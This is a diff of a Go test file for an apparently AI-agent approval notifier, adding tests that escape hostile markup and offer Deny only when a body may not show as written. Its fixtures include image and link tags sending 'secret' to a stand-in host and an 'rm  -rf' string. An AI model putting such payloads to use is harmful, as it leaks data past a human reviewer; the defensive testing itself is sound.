@@ -46,7 +46,7 @@ func TestShowInvokeWithdraw(t *testing.T) {
 			if ok, why := f.n.Permission(); !ok {
 				t.Fatalf("Permission() = false, %q; want true", why)
 			}
-			id := f.show(t, Notification{Key: "c1", Title: "Approve send_email?", Body: "send_email · main · 3f2a9c01 · to=bob"})
+			id := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve send_email?", Body: "send_email · main · 3f2a9c01 · to=bob"})
 			got := f.server.Recorded().Notifications[0]
 			want := desktop.Notification{
 				ID: id, Sender: got.Sender, AppName: "Carapace", Icon: "dialog-warning",
@@ -61,7 +61,7 @@ func TestShowInvokeWithdraw(t *testing.T) {
 			}
 
 			// Showing the key again replaces the notification.
-			if again := f.show(t, Notification{Key: "c1", Title: "Approve send_email?", Body: "changed"}); again != id {
+			if again := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve send_email?", Body: "changed"}); again != id {
 				t.Errorf("a second Show of c1 raised notification %d; want %d replaced", again, id)
 			}
 			if r := f.server.Recorded().Notifications[1]; r.ReplacesID != id {
@@ -116,7 +116,7 @@ func TestForgedSignalsIgnored(t *testing.T) {
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			f := start(t, desktop.NotificationServerOptions{}, Options{})
-			id := f.show(t, Notification{Key: "c1", Title: "Approve?", Body: "b"})
+			id := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"})
 			notifier := f.server.Recorded().Notifications[0].Sender
 
 			// An observer that listens to every ActionInvoked: the proof
@@ -195,9 +195,9 @@ func TestForeignNotificationsIgnored(t *testing.T) {
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			f := start(t, desktop.NotificationServerOptions{}, Options{})
-			id := f.show(t, Notification{Key: "c1", Title: "Approve?", Body: "b"})
+			id := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"})
 			tc.before(t, f, id)
-			id2 := f.show(t, Notification{Key: "c2", Title: "Approve?", Body: "b"})
+			id2 := f.show(t, Notification{Approve: true, Key: "c2", Title: "Approve?", Body: "b"})
 			f.server.Invoke(t, id2, "approve")
 			if a := nextAction(t, f.n); a != (Action{Key: "c2", Approve: true}) {
 				t.Fatalf("first action %+v; want c2 approved (what came before must be ignored)", a)
@@ -216,9 +216,9 @@ func TestPermission(t *testing.T) {
 		why      []string // substrings of why
 		wantBody string   // the body the server gets, when ok
 	}{
-		{name: "actions", caps: []string{"actions", "body"}, ok: true, wantBody: body},
+		{name: "actions", caps: []string{"actions", "body"}, ok: true, wantBody: body + "\n" + reviewAsWritten},
 		{name: "actions and markup", caps: []string{"actions", "body", "body-markup"}, ok: true,
-			wantBody: `&lt;a href=&quot;https://evil.example&quot;&gt;click&lt;/a&gt; &amp; &quot;quote&quot;`},
+			wantBody: `&lt;a href="https://evil.example"&gt;click&lt;/a&gt; &amp; "quote"`},
 		{name: "no actions", caps: []string{"body", "body-markup"}, why: []string{"carapace-test-notifications 7", "cannot show Approve and Deny", "Carapace menu"}},
 		{name: "no server", noServer: true, why: []string{"no notification service", "Carapace menu"}},
 	} {
@@ -238,7 +238,7 @@ func TestPermission(t *testing.T) {
 					t.Errorf("why %q does not say %q", why, w)
 				}
 			}
-			err := n.Show(Notification{Key: "c1", Title: "Approve?", Body: body})
+			err := n.Show(Notification{Approve: true, Key: "c1", Title: "Approve?", Body: body})
 			if tc.ok {
 				if err != nil {
 					t.Fatal(err)
@@ -258,13 +258,87 @@ func TestPermission(t *testing.T) {
 	}
 }
 
+// Agent text in a body can be markup: a link, or an image some servers
+// fetch at once. It is escaped for a server that reads markup; a server
+// that does not read it may still strip what looks like a tag, and one
+// that renders HTML folds spaces — where the body might not show as
+// written, the notification offers Deny only and says where to review.
+// Nothing else in the notification carries the text: the icon is the
+// app's option, the only hint is urgency.
+func TestHostileBodies(t *testing.T) {
+	const (
+		img    = `message = "<img src=\"http://x.example/?d=secret\">"`
+		link   = `message = "<a href=\"http://x.example/?d=secret\">open</a>"`
+		amp    = `message = "fish &amp; chips & co"`
+		spaces = `message = "rm  -rf"`
+		plain  = `message = "hello, world"`
+	)
+	for _, tc := range []struct {
+		name        string
+		markup      bool
+		body        string
+		approve     bool   // Notification.Approve
+		wantBody    string // as the server gets it
+		wantApprove bool
+	}{
+		{"plain text, plain server", false, plain, true, plain, true},     // the positive control
+		{"plain text, markup server", true, plain, true, plain, true},     // the positive control
+		{"plain text, not approvable", false, plain, false, plain, false}, // the app withheld it
+		{"image, markup server", true, img, true, `message = "&lt;img src=\"http://x.example/?d=secret\"&gt;"`, true},
+		{"link, markup server", true, link, true, `message = "&lt;a href=\"http://x.example/?d=secret\"&gt;open&lt;/a&gt;"`, true},
+		{"ampersands, markup server", true, amp, true, `message = "fish &amp;amp; chips &amp; co"`, true},
+		{"image, plain server", false, img, true, img + "\n" + reviewAsWritten, false},
+		{"link, plain server", false, link, true, link + "\n" + reviewAsWritten, false},
+		{"ampersands, plain server", false, amp, true, amp + "\n" + reviewAsWritten, false},
+		{"spaces, markup server", true, spaces, true, spaces + "\n" + reviewAsWritten, false},
+		{"spaces, plain server", false, spaces, true, spaces + "\n" + reviewAsWritten, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			caps := []string{"actions", "body"}
+			if tc.markup {
+				caps = append(caps, "body-markup", "body-hyperlinks", "body-images")
+			}
+			f := start(t, desktop.NotificationServerOptions{Capabilities: caps}, Options{Icon: "dialog-warning"})
+			id := f.show(t, Notification{Key: "c1", Title: "Approve echo?", Body: tc.body, Approve: tc.approve})
+			got := f.server.Recorded().Notifications[0]
+			if got.Body != tc.wantBody {
+				t.Errorf("body %q; want %q", got.Body, tc.wantBody)
+			}
+			wantActions := []string{"deny", "Deny"}
+			if tc.wantApprove {
+				wantActions = wantButtons
+			}
+			if !slices.Equal(got.Actions, wantActions) {
+				t.Errorf("actions %q; want %q", got.Actions, wantActions)
+			}
+			if got.Icon != "dialog-warning" || got.Summary != "Approve echo?" || got.AppName != "Carapace" || len(got.Hints) != 1 || got.Urgency() != 2 {
+				t.Errorf("icon %q, summary %q, app %q, hints %v; want the app's icon and name, the title, and urgency alone", got.Icon, got.Summary, got.AppName, got.Hints)
+			}
+			if tc.wantApprove {
+				return
+			}
+			// Without the button, a press of "approve" — a server's bug, or
+			// a stale one — decides nothing; the genuine Deny that follows
+			// does.
+			f.server.Invoke(t, id, "approve")
+			f.server.Invoke(t, id, "deny")
+			if a := nextAction(t, f.n); a != (Action{Key: "c1", Approve: false}) {
+				t.Errorf("Approve on a Deny-only notification delivered %+v; want the Deny that followed", a)
+			}
+			if !f.log.has(msgNoApprove, "key", "c1") {
+				t.Error("the ignored Approve was not logged")
+			}
+		})
+	}
+}
+
 // TestServerChanges: the Notifier follows the service's owner — its match
 // rule moves to the new owner, the old owner's notifications are
 // forgotten (the new one cannot press them), and the new owner's count.
 func TestServerChanges(t *testing.T) {
 	f := start(t, desktop.NotificationServerOptions{}, Options{})
 	old := f.server
-	oldID := f.show(t, Notification{Key: "c1", Title: "Approve?", Body: "b"})
+	oldID := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"})
 	notifier := old.Recorded().Notifications[0].Sender
 	probe := desktop.Connect(t, f.addr)
 	if rules := serverRules(t, probe, notifier); !slices.Equal(rules, []string{old.UniqueName()}) {
@@ -276,7 +350,7 @@ func TestServerChanges(t *testing.T) {
 	if ok, why := f.n.Permission(); ok || !strings.Contains(why, "no notification service") {
 		t.Errorf("with no server, Permission() = %v, %q", ok, why)
 	}
-	if err := f.n.Show(Notification{Key: "c9", Title: "t", Body: "b"}); !errors.Is(err, ErrUnavailable) {
+	if err := f.n.Show(Notification{Approve: true, Key: "c9", Title: "t", Body: "b"}); !errors.Is(err, ErrUnavailable) {
 		t.Errorf("with no server, Show = %v; want ErrUnavailable", err)
 	}
 
@@ -295,7 +369,7 @@ func TestServerChanges(t *testing.T) {
 	}
 
 	f.server = replacement
-	newID := f.show(t, Notification{Key: "c2", Title: "Approve?", Body: "b"})
+	newID := f.show(t, Notification{Approve: true, Key: "c2", Title: "Approve?", Body: "b"})
 	replacement.Invoke(t, oldID, "approve") // the old server's id, pressed by the new owner
 	replacement.Invoke(t, newID, "deny")
 	if a := nextAction(t, f.n); a != (Action{Key: "c2", Approve: false}) {
@@ -309,7 +383,7 @@ func TestActionsNeverBlock(t *testing.T) {
 	f := start(t, desktop.NotificationServerOptions{}, Options{})
 	var ids []uint32
 	for i := range actionBuffer + 1 {
-		ids = append(ids, f.show(t, Notification{Key: fmt.Sprint("c", i), Title: "Approve?", Body: "b"}))
+		ids = append(ids, f.show(t, Notification{Approve: true, Key: fmt.Sprint("c", i), Title: "Approve?", Body: "b"}))
 	}
 	for _, id := range ids {
 		f.server.Invoke(t, id, "approve")
@@ -317,7 +391,7 @@ func TestActionsNeverBlock(t *testing.T) {
 	f.log.wait(t, msgDropped, "key", fmt.Sprint("c", actionBuffer))
 
 	// Still working: a new notification shows and is withdrawn.
-	f.show(t, Notification{Key: "late", Title: "Approve?", Body: "b"})
+	f.show(t, Notification{Approve: true, Key: "late", Title: "Approve?", Body: "b"})
 	if err := f.n.Withdraw("late"); err != nil {
 		t.Fatal(err)
 	}
@@ -342,7 +416,7 @@ func TestClose(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, key := range []string{"c1", "c2"} {
-		if err := n.Show(Notification{Key: key, Title: "Approve?", Body: "b"}); err != nil {
+		if err := n.Show(Notification{Approve: true, Key: key, Title: "Approve?", Body: "b"}); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -362,7 +436,7 @@ func TestClose(t *testing.T) {
 	if ok, _ := n.Permission(); ok {
 		t.Error("Permission() = true after Close")
 	}
-	if err := n.Show(Notification{Key: "c3", Title: "t", Body: "b"}); err == nil {
+	if err := n.Show(Notification{Approve: true, Key: "c3", Title: "t", Body: "b"}); err == nil {
 		t.Error("Show after Close succeeded")
 	}
 	if err := n.Close(); err != nil {
@@ -387,7 +461,7 @@ func TestActivatedServer(t *testing.T) {
 	if ok, why := n.Permission(); !ok {
 		t.Fatalf("Permission() = false, %q; want the activated server's true", why)
 	}
-	if err := n.Show(Notification{Key: "c1", Title: "Approve?", Body: "b"}); err != nil {
+	if err := n.Show(Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"}); err != nil {
 		t.Fatal(err)
 	}
 	probe := desktop.Connect(t, addr)
@@ -421,7 +495,7 @@ func TestHelperActivatedServer(t *testing.T) {
 // so; Close still succeeds.
 func TestBusLost(t *testing.T) {
 	f := start(t, desktop.NotificationServerOptions{}, Options{})
-	f.show(t, Notification{Key: "c1", Title: "Approve?", Body: "b"})
+	f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"})
 	var pid uint32
 	if err := desktop.Connect(t, f.addr).BusObject().Call("org.freedesktop.DBus.GetConnectionUnixProcessID", 0, "org.freedesktop.DBus").Store(&pid); err != nil {
 		t.Fatal(err)
@@ -444,7 +518,7 @@ func TestBusLost(t *testing.T) {
 	if ok, why := f.n.Permission(); ok || !strings.Contains(why, "lost the connection") {
 		t.Errorf("Permission() = %v, %q; want false, saying the connection was lost", ok, why)
 	}
-	if err := f.n.Show(Notification{Key: "c2", Title: "t", Body: "b"}); !errors.Is(err, ErrUnavailable) {
+	if err := f.n.Show(Notification{Approve: true, Key: "c2", Title: "t", Body: "b"}); !errors.Is(err, ErrUnavailable) {
 		t.Errorf("Show = %v; want ErrUnavailable", err)
 	}
 }
